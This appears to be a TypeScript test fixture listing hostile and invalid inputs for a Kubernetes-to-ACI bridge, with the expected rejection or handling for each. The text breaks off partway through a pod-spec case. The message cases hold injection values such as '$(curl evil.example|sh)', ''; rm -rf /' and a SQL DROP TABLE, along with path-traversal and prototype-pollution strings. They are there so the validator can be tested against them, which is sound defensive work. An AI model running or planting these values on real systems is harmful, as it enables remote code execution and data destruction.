/**
 * The bad-input corpus (issue 9): hostile queue messages, pods ACI cannot run, hostile annotations and failing
 * credentials, each with the outcome users and operators must see. `badInput.test.ts` runs every case through
 * the real handlers against the fakes; `docs/bad-input.md` is generated from this table
 * (`UPDATE_BAD_INPUT_DOC=1 npx vitest run test/corpus`).
 *
 * Pods are named after their case id (unique, valid DNS-1123), in namespace `default`. The Kubernetes fake
 * admits pods like kube-apiserver: it appends the service-account volume and mount, so a pod's own volumes keep
 * their indices (`spec.volumes[0]` is the first one the manifest lists).
 */
import type { V1ConfigMap, V1Container, V1Pod, V1PodSpec, V1Secret } from "@kubernetes/client-node";
import { NotFoundError, TransientError, type InvalidPodSpecReason } from "../../lib/errors.js";
import type { EntrypointResolver } from "../../lib/reconcile/references.js";
import { RegistryDeniedError } from "../../lib/registry/entrypoint.js";

export type Category = "message" | "podSpec" | "annotation" | "credentials" | "isolation";

export const CATEGORY_TITLES: Record<Category, string> = {
  message: "Malformed and hostile queue messages",
  podSpec: "Invalid and unsupported pod specs",
  annotation: "Hostile annotations",
  credentials: "Credentials that fail",
  isolation: "Isolation",
};

/** A container group as ARM returns it (the simulator's stored body). */
export interface ArmGroup {
  properties: {
    containers: Array<{
      name: string;
      properties: {
        command?: string[];
        environmentVariables?: Array<{ name: string; value?: string }>;
        livenessProbe?: { initialDelaySeconds?: number; tcpSocket?: unknown; httpGet?: unknown };
        readinessProbe?: unknown;
      };
    }>;
  };
}

export type Input =
  /** `text` is the queue message as the host dequeues it (after base64); delivered like the library does. */
  | { kind: "message"; text: string; pod?: V1Pod; nodeName?: string }
  | {
      kind: "pod";
      pod: V1Pod;
      secrets?: V1Secret[];
      configMaps?: V1ConfigMap[];
      /** A second harness with `ACI_ALLOW_PUBLIC_IP=true` (the default harness disallows public IPs). */
      harness?: "publicIp";
    }
  | { kind: "scenario"; scenario: Scenario; pod?: V1Pod };

export type Scenario =
  "arm-401" | "arm-403" | "kube-403" | "kube-dead-port" | "registry-unavailable" | "good-pod-last";

export type Expect =
  /** Copy in pod-events-poison (`poisonBody`, default the delivered text), one `message.invalid` error line. */
  | { outcome: "poison"; error: RegExp; poisonBody?: string }
  /** A valid message: handled like any other (never poisoned), logging `event`. */
  | { outcome: "handled"; event: "pod.gone" | "pod.ignored" | "cg.created" }
  /** Terminal: pod Failed with `reason`, status message starting with `field: `, one Warning Event. */
  | {
      outcome: "failed";
      reason: InvalidPodSpecReason;
      field: string;
      /** ARM refused the PUT (400): one rejected PUT instead of none. */
      armRejected?: boolean;
      /** A secret value the pod can see: must appear in no status, Event or log. */
      secret?: string;
    }
  /**
   * Accepted (or approximated): one container group is created; `check` inspects it; `warnings` are the reasons
   * of the Warning Events the pod gets for the approximation (none when absent).
   */
  | { outcome: "runs"; check?: (group: ArmGroup) => void; warnings?: string[] }
  /**
   * Like the kubelet, waits for something that may still appear (a Secret, a ConfigMap): Pending, the
   * container Waiting with `reason` (its `message` for CreateContainerConfigError), one Warning Event
   * `event` with `eventMessage`, no container group, a follow-up queued.
   */
  | {
      outcome: "waits";
      reason: "CreateContainerConfigError" | "ContainerCreating";
      event: "Failed" | "FailedMount";
      eventMessage: string;
      secret?: string;
    }
  /**
   * Transient: the handler completes after sending a delayed copy (attempt 1; the host's dequeue count is not
   * spent), the pod is not Failed, `message.retry.deferred` is logged with the error.
   */
  | { outcome: "retried"; error: RegExp }
  | { outcome: "isolated" };

export interface CorpusCase {
  id: string;
  category: Category;
  description: string;
  input: Input;
  expect: Expect;
  /** What the doc says about the outcome beyond the generic sentence. */
  note?: string;
}

/** Cases left out because the bridge does not behave as it should yet (reported to the lead). */
export interface TodoCase {
  id: string;
  category: Category;
  description: string;
  reason: string;
}

// ---- builders ----

const NS = "default";
export const KNOWN_ENTRYPOINT_IMAGE = "registry.example/known:1";
export const KNOWN_ENTRYPOINT = ["/docker-entrypoint.sh"];
const IDENTITY_OK_SHAPE = "/subscriptions/0/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/sa";

/** A plain pod bound to the virtual node with one nginx container exposing port 80. */
export function corpusPod(
  name: string,
  spec: Partial<V1PodSpec> = {},
  container: Partial<V1Container> = {},
  annotations?: Record<string, string>,
): V1Pod {
  return {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name, namespace: NS, labels: { app: name }, ...(annotations ? { annotations } : {}) },
    spec: {
      containers: [{ name: "app", image: "nginx", ports: [{ containerPort: 80 }], ...container }],
      tolerations: [{ key: "virtual-kubelet.io/provider", operator: "Exists", effect: "NoSchedule" }],
      ...spec,
    },
  };
}

function secret(name: string, data: Record<string, string>, type?: string): V1Secret {
  return { metadata: { name, namespace: NS }, stringData: data, ...(type ? { type } : {}) };
}

function message(fields: Record<string, unknown>): string {
  return JSON.stringify(fields);
}

const valid = (name: string, extra: Record<string, unknown> = {}) =>
  message({ v: 1, ns: NS, name, reason: "added", ...extra });

const CJK_TEXT = `{"x":"${"一".repeat(10_000)}","n":[${Array.from({ length: 4400 }, () => "1e9").join(",")}]}`;
/** What the handler keeps: the library parses JSON, so the copy is re-serialised, then cut at 32 KiB of bytes. */
const CJK_POISON = Buffer.from(JSON.stringify(JSON.parse(CJK_TEXT)), "utf8")
  .subarray(0, 32 * 1024)
  .toString("utf8");

const poison = (error: RegExp, poisonBody?: string): Expect =>
  poisonBody === undefined ? { outcome: "poison", error } : { outcome: "poison", error, poisonBody };

const waitsConfig = (message: string, secret?: string): Expect => ({
  outcome: "waits",
  reason: "CreateContainerConfigError",
  event: "Failed",
  eventMessage: `Error: ${message}`,
  ...(secret ? { secret } : {}),
});

const waitsMount = (volume: string, message: string): Expect => ({
  outcome: "waits",
  reason: "ContainerCreating",
  event: "FailedMount",
  eventMessage: `MountVolume.SetUp failed for volume "${volume}" : ${message}`,
});

const failed = (
  reason: InvalidPodSpecReason,
  field: string,
  extra: { armRejected?: boolean; secret?: string } = {},
): Expect => ({ outcome: "failed", reason, field, ...extra });

const ann = (key: string) => `metadata.annotations['${key}']`;

function env(group: ArmGroup, name: string): { name: string; value?: string } | undefined {
  return group.properties.containers[0]?.properties.environmentVariables?.find((e) => e.name === name);
}

function inCategory(category: Category, cases: Array<Omit<CorpusCase, "category">>): CorpusCase[] {
  return cases.map((c) => ({ ...c, category }));
}

function assertThat(condition: boolean, what: string): void {
  if (!condition) throw new Error(`container group check failed: ${what}`);
}

const HUGE_TEXT = "x".repeat(60 * 1024);
const DISTINCTIVE_SECRET = "corpus-s3cr3t-value-7f3a";

// ---- 1. messages ----

const messageCases: CorpusCase[] = [
  {
    id: "msg-not-json",
    category: "message",
    description: "plain text, not JSON",
    input: { kind: "message", text: "this is not json" },
    expect: poison(/^message is not JSON$/),
  },
  {
    id: "msg-empty",
    category: "message",
    description: "empty body",
    input: { kind: "message", text: "" },
    expect: poison(/^message is not JSON$/),
  },
  {
    id: "msg-json-array",
    category: "message",
    description: "a JSON array holding a valid message",
    input: { kind: "message", text: `[${valid("x")}]` },
    expect: poison(/^message is not a JSON object$/),
  },
  {
    id: "msg-json-null",
    category: "message",
    description: "JSON null",
    input: { kind: "message", text: "null" },
    expect: poison(/^message is not a JSON object$/),
  },
  {
    id: "msg-json-number",
    category: "message",
    description: "a JSON number",
    input: { kind: "message", text: "42" },
    expect: poison(/^message is not a JSON object$/),
  },
  {
    id: "msg-version-2",
    category: "message",
    description: "unknown version `v: 2`",
    input: { kind: "message", text: message({ v: 2, ns: NS, name: "x", reason: "added" }) },
    expect: poison(/^unsupported message version 2$/),
  },
  {
    id: "msg-version-string",
    category: "message",
    description: 'version as a string `v: "1"`',
    input: { kind: "message", text: message({ v: "1", ns: NS, name: "x", reason: "added" }) },
    expect: poison(/^unsupported message version "1"$/),
  },
  {
    id: "msg-missing-ns",
    category: "message",
    description: "no `ns`",
    input: { kind: "message", text: message({ v: 1, name: "x", reason: "added" }) },
    expect: poison(/^field ns: /),
  },
  {
    id: "msg-missing-name",
    category: "message",
    description: "no `name`",
    input: { kind: "message", text: message({ v: 1, ns: NS, reason: "added" }) },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-missing-reason",
    category: "message",
    description: "no `reason`",
    input: { kind: "message", text: message({ v: 1, ns: NS, name: "x" }) },
    expect: poison(/^field reason: must be one of added, updated, deleted, resync, status$/),
  },
  {
    id: "msg-unknown-reason",
    category: "message",
    description: '`reason: "exec"` (a command, not an event)',
    input: { kind: "message", text: message({ v: 1, ns: NS, name: "x", reason: "exec" }) },
    expect: poison(/^field reason: /),
  },
  {
    id: "msg-dotdot-ns",
    category: "message",
    description: "path traversal in ns: `../kube-system`",
    input: { kind: "message", text: message({ v: 1, ns: "../kube-system", name: "x", reason: "added" }) },
    expect: poison(/^field ns: /),
  },
  {
    id: "msg-dotdot-name",
    category: "message",
    description: "path traversal in name: `../../secrets/db`",
    input: { kind: "message", text: valid("../../secrets/db") },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-percent-2f",
    category: "message",
    description: "encoded slash in name: `web%2F..%2Fsecrets`",
    input: { kind: "message", text: valid("web%2F..%2Fsecrets") },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-uppercase",
    category: "message",
    description: "uppercase name `Web-0`",
    input: { kind: "message", text: valid("Web-0") },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-unicode",
    category: "message",
    description: "non-ASCII name (`wéb-0`, homoglyph of `web-0`)",
    input: { kind: "message", text: valid("w\u00e9b-0") },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-emoji",
    category: "message",
    description: "emoji in name",
    input: { kind: "message", text: valid("web-\u{1F600}") },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-rtl-override",
    category: "message",
    description: "right-to-left override (U+202E) in name",
    input: { kind: "message", text: valid("web\u202e0-bew") },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-nul-byte",
    category: "message",
    description: "NUL byte in name",
    input: { kind: "message", text: valid("web\u0000-0") },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-name-300",
    category: "message",
    description: "300-character name (Kubernetes allows 253)",
    input: { kind: "message", text: valid("a".repeat(300)) },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-huge-5k",
    category: "message",
    description: "valid fields plus 5 KiB of padding (limit 4 KiB)",
    input: { kind: "message", text: valid("x", { pad: "p".repeat(5 * 1024) }) },
    expect: poison(/^message is larger than 4096 bytes$/),
  },
  {
    id: "msg-huge-60k",
    category: "message",
    description: "60 KiB of text",
    input: { kind: "message", text: HUGE_TEXT },
    expect: poison(/^message is 61440 bytes \(max 4096\)$/, HUGE_TEXT.slice(0, 32 * 1024)),
    note: "the poison copy keeps the first 32 KiB",
  },
  {
    id: "msg-poison-copy-too-large",
    category: "message",
    description:
      "a queue-legal message of 10,000 CJK characters and 4,400 `1e9` numbers, re-serialised by the library into more than the queue takes",
    input: { kind: "message", text: CJK_TEXT },
    expect: poison(/^message is larger than 4096 bytes$/, CJK_POISON),
    note: "the poison copy is cut at 32 KiB of UTF-8 (≈ 43 KiB base64), so it always fits in a queue message",
  },
  {
    id: "msg-proto-only",
    category: "message",
    description: "the fields hidden under `__proto__` (prototype pollution)",
    input: { kind: "message", text: `{"__proto__":${valid("x")}}` },
    expect: poison(/^unsupported message version \(missing\)$/),
  },
  {
    id: "msg-sql-injection",
    category: "message",
    description: "SQL injection in name: `x'; DROP TABLE pods;--`",
    input: { kind: "message", text: valid("x'; DROP TABLE pods;--") },
    expect: poison(/^field name: /),
  },
  {
    id: "msg-shell-injection",
    category: "message",
    description: "shell injection in ns: `$(curl evil.example|sh)`",
    input: {
      kind: "message",
      text: message({ v: 1, ns: "$(curl evil.example|sh)", name: "x", reason: "added" }),
    },
    expect: poison(/^field ns: /),
  },
  {
    id: "msg-bad-uid",
    category: "message",
    description: "injection in uid: `'; rm -rf /`",
    input: { kind: "message", text: valid("x", { uid: "'; rm -rf /" }) },
    expect: poison(/^field uid: /),
  },
  {
    id: "msg-bad-at",
    category: "message",
    description: "`at` that is not a time: `yesterday; reboot`",
    input: { kind: "message", text: valid("x", { at: "yesterday; reboot" }) },
    expect: poison(/^field at: /),
  },
  {
    id: "msg-extra-fields",
    category: "message",
    description: "valid message with unknown extra fields (`priority`, nested objects)",
    input: {
      kind: "message",
      text: valid("msg-extra-fields", { priority: "urgent", extra: { deep: [1, 2, { x: null }] } }),
      pod: corpusPod("msg-extra-fields"),
    },
    expect: { outcome: "handled", event: "cg.created" },
    note: "extra fields are ignored; the pod is created like any other",
  },
  {
    id: "msg-proto-extra",
    category: "message",
    description: "valid message with an extra `__proto__` object",
    input: { kind: "message", text: valid("msg-proto-extra", { ["__proto__"]: { polluted: "yes" } }) },
    expect: { outcome: "handled", event: "pod.gone" },
    note: "ignored field; no object prototype is polluted",
  },
  {
    id: "msg-constructor-extra",
    category: "message",
    description: "valid message with `constructor.prototype` keys",
    input: {
      kind: "message",
      text: valid("msg-constructor-extra", { constructor: { prototype: { polluted: "yes" } } }),
    },
    expect: { outcome: "handled", event: "pod.gone" },
    note: "ignored field; no object prototype is polluted",
  },
  {
    id: "msg-pod-missing",
    category: "message",
    description: "valid message for a pod that does not exist",
    input: { kind: "message", text: valid("msg-pod-missing") },
    expect: { outcome: "handled", event: "pod.gone" },
    note: "one ARM read (is there an orphan group?), no write, not poisoned",
  },
  {
    id: "msg-other-node",
    category: "message",
    description: "valid message for a pod bound to another node",
    input: {
      kind: "message",
      text: valid("msg-other-node"),
      pod: corpusPod("msg-other-node"),
      nodeName: "aks-nodepool1-0",
    },
    expect: { outcome: "handled", event: "pod.ignored" },
    note: "no ARM call",
  },
  {
    id: "msg-forged",
    category: "message",
    description: 'forged message: `reason: "deleted"` and a uid that is not the pod\'s',
    input: {
      kind: "message",
      text: message({
        v: 1,
        ns: NS,
        name: "msg-forged",
        uid: "00000000-0000-0000-0000-000000000000",
        reason: "deleted",
      }),
      pod: corpusPod("msg-forged"),
    },
    expect: { outcome: "handled", event: "cg.created" },
    note: "the payload is not trusted: the live pod is read and converged (created), nothing is deleted",
  },
];

// ---- 2. pod specs ----

const specCases: CorpusCase[] = inCategory("podSpec", [
  {
    id: "spec-hostpath",
    description: "hostPath volume",
    input: {
      kind: "pod",
      pod: corpusPod("spec-hostpath", { volumes: [{ name: "h", hostPath: { path: "/" } }] }),
    },
    expect: failed("UnsupportedPodSpec", "spec.volumes[0].hostPath"),
  },
  {
    id: "spec-image-invalid-reference",
    description: "image reference `UPPER/Case:tag` (not a valid reference: InvalidImageName)",
    input: { kind: "pod", pod: corpusPod("spec-image-invalid-reference", {}, { image: "UPPER/Case:tag" }) },
    expect: failed("InvalidPodSpec", "spec.containers[0].image"),
  },
  {
    id: "spec-pvc",
    description: "persistentVolumeClaim volume",
    input: {
      kind: "pod",
      pod: corpusPod("spec-pvc", { volumes: [{ name: "d", persistentVolumeClaim: { claimName: "data" } }] }),
    },
    expect: failed("UnsupportedPodSpec", "spec.volumes[0].persistentVolumeClaim"),
  },
  {
    id: "spec-nfs-volume",
    description: "a volume type ACI does not have (nfs)",
    input: {
      kind: "pod",
      pod: corpusPod("spec-nfs-volume", { volumes: [{ name: "n", nfs: { server: "nfs", path: "/x" } }] }),
    },
    expect: failed("UnsupportedPodSpec", "spec.volumes[0].nfs"),
  },
  {
    id: "spec-unknown-volume-type",
    description: "a volume type Kubernetes does not know (`fooBar: {}`)",
    input: {
      kind: "pod",
      pod: corpusPod("spec-unknown-volume-type", { volumes: [{ name: "f", fooBar: {} } as never] }),
    },
    expect: failed("UnsupportedPodSpec", "spec.volumes[0].source"),
    note: "client-node drops unknown keys when it reads the pod, so the message names `spec.volumes[0].source`",
  },
  {
    id: "spec-host-network",
    description: "hostNetwork: true",
    input: { kind: "pod", pod: corpusPod("spec-host-network", { hostNetwork: true }) },
    expect: failed("UnsupportedPodSpec", "spec.hostNetwork"),
  },
  {
    id: "spec-host-pid",
    description: "hostPID: true",
    input: { kind: "pod", pod: corpusPod("spec-host-pid", { hostPID: true }) },
    expect: failed("UnsupportedPodSpec", "spec.hostPID"),
  },
  {
    id: "spec-privileged",
    description: "privileged container",
    input: { kind: "pod", pod: corpusPod("spec-privileged", {}, { securityContext: { privileged: true } }) },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].securityContext.privileged"),
  },
  {
    id: "spec-capabilities-add",
    description: "added Linux capabilities (NET_ADMIN)",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-capabilities-add",
        {},
        { securityContext: { capabilities: { add: ["NET_ADMIN"] } } },
      ),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].securityContext.capabilities.add"),
  },
  {
    id: "spec-subpath",
    description: "volumeMount with a subPath of an emptyDir that is also mounted whole",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-subpath",
        { volumes: [{ name: "e", emptyDir: {} }] },
        {
          volumeMounts: [
            { name: "e", mountPath: "/data" },
            { name: "e", mountPath: "/sub", subPath: "sub" },
          ],
        },
      ),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].volumeMounts[1].subPath"),
    note: "a subPath no container also mounts whole runs (one ACI emptyDir per subPath, docs/translation.md)",
  },
  {
    id: "spec-working-dir",
    description: "workingDir the bridge can neither match nor wrap (image config unknown)",
    input: { kind: "pod", pod: corpusPod("spec-working-dir", {}, { workingDir: "/app" }) },
    expect: { outcome: "runs", warnings: ["WorkingDirDropped"] },
    note: "node policy ACI_WORKING_DIR=drop (the default); ACI_WORKING_DIR=reject fails the pod instead",
  },
  {
    id: "spec-post-start",
    description: "lifecycle.postStart hook",
    input: {
      kind: "pod",
      pod: corpusPod("spec-post-start", {}, { lifecycle: { postStart: { exec: { command: ["true"] } } } }),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].lifecycle.postStart"),
  },
  {
    id: "spec-tcp-probe",
    description: "tcpSocket liveness probe",
    input: {
      kind: "pod",
      pod: corpusPod("spec-tcp-probe", {}, { livenessProbe: { tcpSocket: { port: 80 } } }),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].livenessProbe.tcpSocket"),
    note: "the annotation `aci-bridge.io/unsupported-probes: drop` runs the pod without the probe instead",
  },
  {
    id: "spec-grpc-probe",
    description: "grpc readiness probe",
    input: {
      kind: "pod",
      pod: corpusPod("spec-grpc-probe", {}, { readinessProbe: { grpc: { port: 9000 } } }),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].readinessProbe.grpc"),
  },
  {
    id: "spec-startup-probe",
    description: "startupProbe with an httpGet liveness probe",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-startup-probe",
        {},
        {
          startupProbe: { httpGet: { path: "/", port: 80 }, periodSeconds: 5, failureThreshold: 12 },
          livenessProbe: { httpGet: { path: "/", port: 80 } },
        },
      ),
    },
    expect: {
      outcome: "runs",
      check: (g) => {
        const live = g.properties.containers[0]?.properties.livenessProbe;
        assertThat(live?.initialDelaySeconds === 60, "liveness starts after the startup window (60 s)");
      },
      warnings: ["StartupProbeApproximated"],
    },
    note: "documented approximation: the liveness probe starts after the startup probe's window",
  },
  {
    id: "spec-cpu-100",
    description: "100 CPU requested (node allows 4 per group)",
    input: { kind: "pod", pod: corpusPod("spec-cpu-100", {}, { resources: { requests: { cpu: "100" } } }) },
    expect: failed("UnsupportedPodSpec", "spec.containers[*].resources.requests.cpu"),
  },
  {
    id: "spec-memory-1ti",
    description: "1Ti memory requested (node allows 16 GB per group)",
    input: {
      kind: "pod",
      pod: corpusPod("spec-memory-1ti", {}, { resources: { requests: { memory: "1Ti" } } }),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[*].resources.requests.memory"),
  },
  {
    id: "spec-gpu",
    description: "nvidia.com/gpu limit",
    input: {
      kind: "pod",
      pod: corpusPod("spec-gpu", {}, { resources: { limits: { "nvidia.com/gpu": "1" } } }),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].resources.requests['nvidia.com/gpu']"),
    note: "the API server copies limits to requests, so the requests entry is named",
  },
  {
    id: "spec-61-containers",
    description: "61 containers (ACI allows 60 per group)",
    input: {
      kind: "pod",
      pod: corpusPod("spec-61-containers", {
        containers: Array.from({ length: 61 }, (_, i) => ({ name: `c${i}`, image: "nginx" })),
      }),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers"),
  },
  {
    id: "spec-21-volumes",
    description: "21 emptyDir volumes (ACI allows 20; the service-account volume makes 22)",
    input: {
      kind: "pod",
      pod: corpusPod("spec-21-volumes", {
        volumes: Array.from({ length: 21 }, (_, i) => ({ name: `v${i}`, emptyDir: {} })),
      }),
    },
    expect: failed("UnsupportedPodSpec", "spec.volumes"),
  },
  {
    id: "spec-6-ports",
    description: "6 distinct ports (ACI exposes 5 per IP)",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-6-ports",
        {},
        { ports: [80, 81, 82, 83, 84, 85].map((p) => ({ containerPort: p })) },
      ),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[*].ports"),
  },
  {
    id: "spec-sctp-port",
    description: "SCTP port",
    input: {
      kind: "pod",
      pod: corpusPod("spec-sctp-port", {}, { ports: [{ containerPort: 80, protocol: "SCTP" }] }),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].ports[0].protocol"),
  },
  {
    id: "spec-empty-image",
    description: "init container with an empty image",
    input: {
      kind: "pod",
      pod: corpusPod("spec-empty-image", { initContainers: [{ name: "init", image: "" }] }),
    },
    expect: failed("InvalidPodSpec", "spec.initContainers[0].image"),
    note: "a real API server refuses this pod already; the bridge checks anyway",
  },
  {
    id: "spec-image-inaccessible",
    description: "image ACI cannot reach (ARM answers 400 InaccessibleImage)",
    input: {
      kind: "pod",
      pod: corpusPod("spec-image-inaccessible", {}, { image: "myacr.io/aci-sim/inaccessible:1" }),
    },
    expect: failed("InvalidPodSpec", "spec", { armRejected: true }),
    note: "the ARM 400 path: one rejected PUT, the ACI error code in the message",
  },
  {
    id: "spec-missing-secret-env",
    description: "env secretKeyRef to a missing secret",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-missing-secret-env",
        {},
        {
          env: [{ name: "DB", valueFrom: { secretKeyRef: { name: "nope", key: "password" } } }],
        },
      ),
    },
    expect: waitsConfig('secret "nope" not found'),
    note: "like the kubelet: Pending, retried with back-off until the secret exists",
  },
  {
    id: "spec-missing-secret-key",
    description: "env secretKeyRef to a key the secret does not have",
    input: {
      kind: "pod",
      secrets: [secret("corpus-db", { user: DISTINCTIVE_SECRET })],
      pod: corpusPod(
        "spec-missing-secret-key",
        {},
        {
          env: [
            { name: "USER", valueFrom: { secretKeyRef: { name: "corpus-db", key: "user" } } },
            { name: "DB", valueFrom: { secretKeyRef: { name: "corpus-db", key: "password" } } },
          ],
        },
      ),
    },
    expect: waitsConfig("couldn't find key password in Secret default/corpus-db", DISTINCTIVE_SECRET),
    note: "the secret's values appear nowhere",
  },
  {
    id: "spec-missing-secret-envfrom",
    description: "envFrom secretRef to a missing secret",
    input: {
      kind: "pod",
      pod: corpusPod("spec-missing-secret-envfrom", {}, { envFrom: [{ secretRef: { name: "nope" } }] }),
    },
    expect: waitsConfig('secret "nope" not found'),
  },
  {
    id: "spec-missing-secret-volume",
    description: "secret volume of a missing secret",
    input: {
      kind: "pod",
      pod: corpusPod("spec-missing-secret-volume", {
        volumes: [{ name: "s", secret: { secretName: "nope" } }],
      }),
    },
    expect: waitsMount("s", 'secret "nope" not found'),
  },
  {
    id: "spec-missing-configmap",
    description: "env configMapKeyRef to a missing configmap",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-missing-configmap",
        {},
        {
          env: [{ name: "MODE", valueFrom: { configMapKeyRef: { name: "nope", key: "mode" } } }],
        },
      ),
    },
    expect: waitsConfig('configmap "nope" not found'),
  },
  {
    id: "spec-missing-configmap-volume",
    description: "configMap volume of a missing configmap",
    input: {
      kind: "pod",
      pod: corpusPod("spec-missing-configmap-volume", {
        volumes: [{ name: "c", configMap: { name: "nope" } }],
      }),
    },
    expect: waitsMount("c", 'configmap "nope" not found'),
  },
  {
    id: "spec-optional-missing-secret",
    description: "optional secretKeyRef to a missing secret",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-optional-missing-secret",
        {},
        {
          env: [
            { name: "DB", valueFrom: { secretKeyRef: { name: "nope", key: "password", optional: true } } },
          ],
        },
      ),
    },
    expect: { outcome: "runs", check: (g) => assertThat(env(g, "DB") === undefined, "DB is not set") },
    note: "like the kubelet: the variable is left out",
  },
  {
    id: "spec-missing-pull-secret",
    description: "imagePullSecrets naming a missing secret",
    input: {
      kind: "pod",
      pod: corpusPod("spec-missing-pull-secret", { imagePullSecrets: [{ name: "nope" }] }),
    },
    expect: { outcome: "runs", warnings: ["FailedToRetrieveImagePullSecret"] },
    note: "like the kubelet: pulled without it",
  },
  {
    id: "spec-pull-secret-wrong-type",
    description: "imagePullSecrets naming an Opaque secret",
    input: {
      kind: "pod",
      secrets: [secret("corpus-opaque", { token: DISTINCTIVE_SECRET })],
      pod: corpusPod("spec-pull-secret-wrong-type", { imagePullSecrets: [{ name: "corpus-opaque" }] }),
    },
    expect: failed("InvalidPodSpec", "spec.imagePullSecrets[0]", { secret: DISTINCTIVE_SECRET }),
  },
  {
    id: "spec-command-expands-secret",
    description: "command that expands a secret-sourced variable `$(TOKEN)`",
    input: {
      kind: "pod",
      secrets: [secret("corpus-token", { token: DISTINCTIVE_SECRET })],
      pod: corpusPod(
        "spec-command-expands-secret",
        {},
        {
          command: ["sh", "-c", "curl -H 'auth: $(TOKEN)' api"],
          env: [{ name: "TOKEN", valueFrom: { secretKeyRef: { name: "corpus-token", key: "token" } } }],
        },
      ),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].command[2]", { secret: DISTINCTIVE_SECRET }),
    note: "ACI shows commands in clear text",
  },
  {
    id: "spec-nested-secret-path",
    description: "secret volume item with a nested path `a/b`",
    input: {
      kind: "pod",
      secrets: [secret("corpus-files", { cert: DISTINCTIVE_SECRET })],
      pod: corpusPod("spec-nested-secret-path", {
        volumes: [
          { name: "s", secret: { secretName: "corpus-files", items: [{ key: "cert", path: "a/b" }] } },
        ],
      }),
    },
    expect: failed("UnsupportedPodSpec", "spec.volumes[0].secret.items[0].path", {
      secret: DISTINCTIVE_SECRET,
    }),
  },
  {
    id: "spec-env-1mib",
    description: "one env value of 1 MiB",
    input: {
      kind: "pod",
      pod: corpusPod("spec-env-1mib", {}, { env: [{ name: "BIG", value: "x".repeat(1024 * 1024) }] }),
    },
    expect: {
      outcome: "runs",
      check: (g) => assertThat(env(g, "BIG")?.value?.length === 1024 * 1024, "BIG is sent whole"),
    },
    note: "no local limit: ACI decides; an ARM 400 would fail the pod like spec-image-inaccessible",
  },
  {
    id: "spec-env-many",
    description: "3000 env variables",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-env-many",
        {},
        {
          env: Array.from({ length: 3000 }, (_, i) => ({ name: `V${i}`, value: String(i) })),
        },
      ),
    },
    expect: { outcome: "runs", check: (g) => assertThat(env(g, "V2999")?.value === "2999", "V2999 is sent") },
    note: "no local limit: ACI decides",
  },
  {
    id: "spec-args-image-not-found",
    description: "args without command; the registry has no such image (404)",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-args-image-not-found",
        {},
        { image: "registry.example/missing:1", args: ["--serve"] },
      ),
    },
    expect: failed("MissingReference", "spec.containers[0].args"),
    note: "`image.entrypoint.unresolved` is logged; the args are never dropped silently",
  },
  {
    id: "spec-args-image-denied",
    description: "args without command; the registry refuses access (401)",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-args-image-denied",
        {},
        { image: "registry.example/private:1", args: ["--serve"] },
      ),
    },
    expect: failed("MissingReference", "spec.containers[0].args"),
  },
  {
    id: "spec-args-known-entrypoint",
    description: "args without command; the registry has the image",
    input: {
      kind: "pod",
      pod: corpusPod("spec-args-known-entrypoint", {}, { image: KNOWN_ENTRYPOINT_IMAGE, args: ["--serve"] }),
    },
    expect: {
      outcome: "runs",
      check: (g) =>
        assertThat(
          JSON.stringify(g.properties.containers[0]?.properties.command) ===
            JSON.stringify([...KNOWN_ENTRYPOINT, "--serve"]),
          "command = ENTRYPOINT + args",
        ),
    },
  },
  {
    id: "spec-pod-ip-fieldref",
    description: "env fieldRef status.podIP",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-pod-ip-fieldref",
        {},
        {
          env: [{ name: "IP", valueFrom: { fieldRef: { fieldPath: "status.podIP" } } }],
        },
      ),
    },
    expect: failed("UnsupportedPodSpec", "spec.containers[0].env[0].valueFrom.fieldRef.fieldPath"),
    note: "documented decision (ADR 0103): error unless `aci-bridge.io/pod-ip-substitute` is set",
  },
  {
    id: "spec-unknown-fieldref",
    description: "env fieldRef metadata.generation",
    input: {
      kind: "pod",
      pod: corpusPod(
        "spec-unknown-fieldref",
        {},
        {
          env: [{ name: "G", valueFrom: { fieldRef: { fieldPath: "metadata.generation" } } }],
        },
      ),
    },
    expect: failed("InvalidPodSpec", "spec.containers[0].env[0].valueFrom.fieldRef.fieldPath"),
  },
  {
    id: "spec-ephemeral-containers",
    description: "ephemeralContainers",
    input: {
      kind: "pod",
      pod: corpusPod("spec-ephemeral-containers", {
        ephemeralContainers: [{ name: "dbg", image: "busybox" }],
      }),
    },
    expect: failed("UnsupportedPodSpec", "spec.ephemeralContainers"),
  },
  {
    id: "spec-host-aliases",
    description: "hostAliases",
    input: {
      kind: "pod",
      pod: corpusPod("spec-host-aliases", { hostAliases: [{ ip: "10.0.0.1", hostnames: ["db"] }] }),
    },
    expect: failed("UnsupportedPodSpec", "spec.hostAliases"),
  },
  {
    id: "spec-sysctls",
    description: "pod securityContext sysctls",
    input: {
      kind: "pod",
      pod: corpusPod("spec-sysctls", {
